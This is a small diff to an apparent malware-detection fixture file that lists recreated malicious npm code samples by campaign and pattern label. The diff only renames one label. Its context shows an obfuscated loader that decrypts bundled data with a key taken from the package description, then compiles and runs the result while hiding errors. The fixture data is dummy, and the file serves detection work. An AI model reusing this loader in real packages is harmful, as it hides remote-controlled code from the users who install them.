@@ -35,7 +35,7 @@ export const RUN_TIME_CODE: readonly Recreation[] = [
         "var r=require,t=process;try{var n=r('./test/data'),o=t.env.npm_package_description;var u=r('crypto').createDecipher('aes256',o),a=u.update(n[0],'hex','utf8');a+=u.final('utf8');var f=new module.constructor;f.paths=module.paths;f._compile(a,'');f.exports(n[1])}catch(e){}",
       'test/data.js': "module.exports = ['00', '11'];\n",
     },
-    shape: ['code/decode-and-execute', 'code/decrypts-and-executes'],
+    shape: ['code/decode-and-execute', 'code/runs-decoded'],
   },
   {
     campaign: 'electron-native-notify-2019',
